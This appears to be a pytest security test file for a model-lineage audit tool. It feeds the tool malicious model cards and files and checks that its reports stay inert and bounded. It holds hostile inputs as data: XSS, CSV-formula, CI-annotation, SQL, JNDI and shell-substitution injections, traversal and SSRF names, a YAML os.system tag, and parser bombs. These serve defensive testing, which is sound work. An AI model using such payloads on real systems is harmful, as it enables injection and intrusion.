"""What strangers write, through the real command line: bounded in memory and time, honest in the
report, inert in every format."""

from __future__ import annotations

import csv
import io
import json
import re
import struct
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest

from hub import HubFile, HubModel, TestHub
from lineage.report.formats import FORMATS

from .conftest import Measure

pytestmark = pytest.mark.linux  # runs are measured by what /proc says of them

MEMORY = 200 << 20
"""Peak of resident bytes allowed in every case here; a plain audit takes about 50 MB, the largest
of these about 110 MB."""

INJECTIONS = (
    "\x1b]0;owned\x07\x1b[2J\x1b[31mPASS",
    "\u202egnp.exe\u2066",
    "zero\u200bwidth",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "](javascript:alert(1)) [click](https://evil.example)",
    "| a | b |\n|---|---|\n# Verdict: pass",
    '=HYPERLINK("https://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\n::error file=a.py,line=1::owned\n::set-output name=x::y",
    ']]></failure><testcase name="owned"/>',
    "%0A%0D::warning::x",
    "\ud800\udfff",
    "\x00\x01\x7f\x9b",
    "'; DROP TABLE answer; --",
    "${jndi:ldap://evil.example/a} $(touch owned) `touch owned`",
)
NOT_NAMES = (
    *(
        "../../etc/passwd",
        "/etc/passwd",
        "..\\..\\windows",
        "a/../b",
        "a/b/../../c",
        "C:\\models\\x",
        "~/model",
        "file:///etc/passwd",
    ),
    *(
        "http://169.254.169.254/latest/meta-data",
        "https://evil.example/a/b",
        "ftp://evil.example/x",
        "a/b?token=1",
        "a/b#x",
        "a/b%2e%2e",
    ),
    *(
        "a\x00b/c",
        "a/b\r\nHost: evil",
        " ",
        ".",
        "..",
        "-rf/x",
        "a/" + "b" * 5000,
        "x" * 1_000_000,
        "Qwеn/Qwen2.5-7B",
    ),
)


def audited(
    measure: Measure, tmp_path: Path, target: str, *args: str, codes: tuple[int, ...] = (0, 1, 3)
) -> dict[str, Any]:
    """One target's report, from a run within the bounds."""
    ran = measure("audit", target, "-f", "text", "-f", f"json={tmp_path / 'r.json'}", *args).clean(
        *codes
    )
    assert ran.memory < MEMORY, ran.memory
    report: dict[str, Any] = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
    return report["targets"][0]


def test_bases_that_are_no_names_are_kept_as_written_and_asked_of_nobody(
    measure: Measure, hub: TestHub, tmp_path: Path
) -> None:
    """Paths, addresses and megabyte ids: no file, no other host; only what is a name under its dirt
    is asked for, at the Hub."""
    hub.add(HubModel("my/tune", card={"base_model": list(NOT_NAMES)}))
    target = audited(measure, tmp_path, "my/tune")
    asked = {re.sub(r"\?.*", "", call.target) for call in hub.calls}
    names = ("my/tune", "a/b", "ab/c")
    usual = {
        f"/{name}/resolve/main/{file}" for name in names for file in ("README.md", "config.json")
    }
    assert asked <= {f"/api/models/{name}" for name in names} | usual
    assert {n["id"] for n in target["nodes"]} <= {"my/tune", "a/b", "ab/c"}
    assert target["verdict"] in ("review", "inconclusive")
    assert any(f["rule"] == "lookalike-namespace" for f in target["findings"])


@pytest.mark.parametrize("form", sorted(FORMATS))
def test_nothing_in_a_card_acts_in_any_format(
    measure: Measure, hub: TestHub, tmp_path: Path, form: str
) -> None:
    """Escapes, markup, formulas, annotations and XML arrive as text, in every report format."""
    readme = "---\nlicense: mit\n---\n# x\n" + "\n".join(
        f"This model is fine-tuned from {text} `a/b{text}`." for text in INJECTIONS[:6]
    )
    hub.add(
        HubModel(
            "my/tune",
            card={
                "base_model": [*INJECTIONS, "a/base"],
                "license": INJECTIONS[3],
                "tags": list(INJECTIONS),
            },
            files={"README.md": readme},
        )
    )
    hub.add(
        HubModel(
            "a/base",
            card={"license": INJECTIONS[0]},
            library=INJECTIONS[3],
            pipeline_tag=INJECTIONS[0],
        )
    )
    out = tmp_path / f"report.{form}"
    ran = measure("audit", "my/tune", "-f", f"{form}={out}", "-v").clean(0, 1, 3)
    assert ran.memory < MEMORY
    text = out.read_text(encoding="utf-8")
    assert not set(text) & set("\x1b\x07\x00\x9b\u202e\u2066\u200b"), "raw control characters"
    _INERT.get(form, lambda _: None)(text)
    assert not (tmp_path / "owned").exists()


def _json(text: str) -> None:
    json.loads(text)


def _xml(text: str) -> None:
    root = ET.fromstring(text)
    assert not [case for case in root.iter("testcase") if case.get("name") == "owned"]


def _html(text: str) -> None:
    assert "<script>alert" not in text and "<img src=x" not in text
    assert not re.search(r"href=[\"']?javascript:", text)


def _csv(text: str) -> None:
    for row in csv.reader(io.StringIO(text)):
        assert not [cell for cell in row if cell[:1] in "=+-@\t\r" and cell]


def _markdown(text: str) -> None:
    assert "<script>" not in text and "<img" not in text
    assert "\n# Verdict: pass" not in text and "](javascript:" not in text


def _github(text: str) -> None:
    assert not [
        line for line in text.splitlines() if line.startswith(("::set-output", "::error file=a.py"))
    ]


_INERT = {
    **dict.fromkeys(("json", "sarif", "cyclonedx", "cyclonedx-1.7", "spdx"), _json),
    "junit": _xml,
    "html": _html,
    "csv": _csv,
    "markdown": _markdown,
    "github": _github,
}


def test_the_checked_formats_exist() -> None:
    """A format that is renamed must not lose its check."""
    assert {"json", "sarif", "junit", "html", "csv", "markdown", "github"} <= set(FORMATS) & set(
        _INERT
    )


def test_a_hundred_thousand_bases_are_cut_and_the_cut_is_told(
    measure: Measure, hub: TestHub, tmp_path: Path
) -> None:
    """The bound is in the report and the verdict is no pass; the first are followed."""
    hub.add(
        HubModel(
            "my/merge",
            card={"base_model": [f"a/m{i}" for i in range(100_000)]},
            tags=(),
            base_models=None,
        )
    )
    target = audited(measure, tmp_path, "my/merge", "--max-models", "20", codes=(1, 3))
    assert len(hub.calls_to("/api/models/")) <= 21
    assert any(f["rule"] == "bounds-hit" for f in target["findings"])
    assert target["complete"] is False


BOMBS: dict[str, dict[str, Any]] = {
    "YAML aliases": {
        "README.md": "---\na: &a [x,x]\n"
        + "".join(f"b{i}: &b{i} [{', '.join(['*a'] * 9)}]\n" for i in range(9))
        + "---\n"
    },
    "YAML depth": {"README.md": "---\nbase_model: " + "[" * 100_000 + "\n---\n"},
    "YAML size": {"README.md": "---\n" + "k: v\n" * 150_000 + "---\n"},
    "YAML tags": {
        "README.md": "---\nbase_model: !!python/object/apply:os.system ['touch owned']\n---\n"
    },
    "JSON depth": {"config.json": '{"a":' * 100_000, "adapter_config.json": "[" * 200_000},
    "JSON huge integers": {"config.json": '{"hidden_size": ' + "9" * 900_000 + "}"},
    "JSON twice the same key": {
        "adapter_config.json": '{"base_model_name_or_path": "a/base", "base_model_name_or_path": "b/other"}'
    },
    "JSON of another type": {
        "config.json": "null",
        "adapter_config.json": '[{"base_model_name_or_path": 7}]',
        "model_index.json": '"x"',
    },
    "safetensors header of terabytes": {
        "model.safetensors": HubFile(struct.pack("<Q", 1 << 42) + b"{", size=1 << 43, lfs=True)
    },
    "GGUF that counts terabytes": {
        "m.gguf": HubFile(
            b"GGUF" + struct.pack("<IQQ", 3, 1 << 60, 1 << 60) + b"\xff" * 64,
            size=1 << 44,
            lfs=True,
        )
    },
    "one line of prose without end": {"README.md": "based on " * 100_000},
    "names that make patterns slow": {
        "README.md": "# x\n"
        + "fine-tuned from "
        + "a-" * 200_000
        + "\n"
        + "[" * 50_000
        + "](" * 50_000
    },
    "thousands of files": {f"checkpoint-{i}/config.json": "{}" for i in range(9_000)},
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_is_bounded_and_nothing_in_it_runs(
    measure: Measure, hub: TestHub, tmp_path: Path, name: str
) -> None:
    """In memory and time; what could not be read leaves the verdict no pass, or the other traces
    answer."""
    hub.add(HubModel("my/model", card={}, files=BOMBS[name]))
    target = audited(measure, tmp_path, "my/model")
    assert target["verdict"] != "pass"
    assert not (tmp_path / "owned").exists()


def test_bombs_in_a_local_folder_are_bounded_too(measure: Measure, tmp_path: Path) -> None:
    """Sparse terabytes, links out of the folder, pipes and devices: nothing is waited for and
    nothing outside is read."""
    import os

    folder = tmp_path / "model"
    folder.mkdir()
    secret = tmp_path / "secret.md"
    secret.write_text("---\nbase_model: secret/base\n---\n")
    (folder / "README.md").symlink_to(secret)
    (folder / "config.json").symlink_to("/dev/zero")
    os.mkfifo(folder / "adapter_config.json")
    (folder / "loop").symlink_to(folder)
    with (folder / "model.safetensors").open("wb") as file:
        file.write(struct.pack("<Q", 1 << 39))
        file.truncate(1 << 40)
    ran = measure(
        "audit", "--offline", str(folder), "-f", "text", "-f", f"json={tmp_path / 'r.json'}"
    ).clean(0, 1, 3)
    assert ran.memory < MEMORY
    report = (tmp_path / "r.json").read_text(encoding="utf-8")
    assert "secret/base" not in report
    assert json.loads(report)["verdict"] != "pass"


@pytest.mark.parametrize(
    "command",
    [
        ("audit", "--input"),
        ("audit", "x/y", "--offline", "--snapshot"),
        ("audit", "x/y", "--offline", "--policy"),
        ("check", ".", "--lock-file"),
    ],
)
@pytest.mark.parametrize("what", ["bytes", "deep", "empty", "folder", "huge", "device"])
def test_files_that_the_user_was_given_end_in_one_sentence(
    measure: Measure, tmp_path: Path, command: tuple[str, ...], what: str
) -> None:
    """A list, snapshot, policy or lock of garbage is wrong usage, whatever the garbage."""
    (tmp_path / "app.py").write_text("AutoModel.from_pretrained('x/y')\n")
    path = tmp_path / "given.toml" if "--policy" in command else tmp_path / "given.json"
    if what == "folder":
        path.mkdir()
    elif what == "huge":
        with path.open("wb") as file:
            file.truncate(1 << 40)
    elif what == "device":
        path = Path("/dev/zero")
    else:
        path.write_bytes(
            {"bytes": bytes(range(256)) * 40, "deep": b"[" * 300_000, "empty": b""}[what]
        )
    ran = measure(*command, str(path), seconds=20).clean(2, 4)
    assert ran.memory < MEMORY
    assert ran.err.strip()
